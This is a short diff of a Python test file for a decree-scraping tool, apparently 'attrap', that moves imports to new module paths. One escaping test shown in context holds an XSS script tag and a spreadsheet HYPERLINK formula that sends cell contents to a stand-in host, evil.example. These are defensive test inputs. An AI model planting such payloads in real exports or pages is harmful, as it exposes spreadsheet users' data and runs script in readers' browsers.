@@ -12,7 +12,7 @@ import pytest
 from click.testing import CliRunner
 
 from attrap.cli import main
-from attrap.export import CSV_COLUMNS
+from attrap.serve.formats import CSV_COLUMNS
 from tests.conftest import SITES, run_cli
 
 EXPECTED = json.loads((SITES / "pref13" / "EXPECTED.json").read_text(encoding="utf-8"))
@@ -133,7 +133,7 @@ def test_csv_and_atom_hold_the_same_decrees(filled):
 
 
 def test_untrusted_titles_are_escaped(cli_env):
-    from attrap.store import DecreeRow, Recueil, Store
+    from attrap.store.db import DecreeRow, Recueil, Store
 
     script = "Arrêté <script>alert('x')</script> & \"drones\" ]]> sur la commune de Nice\x0b"
     formula = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
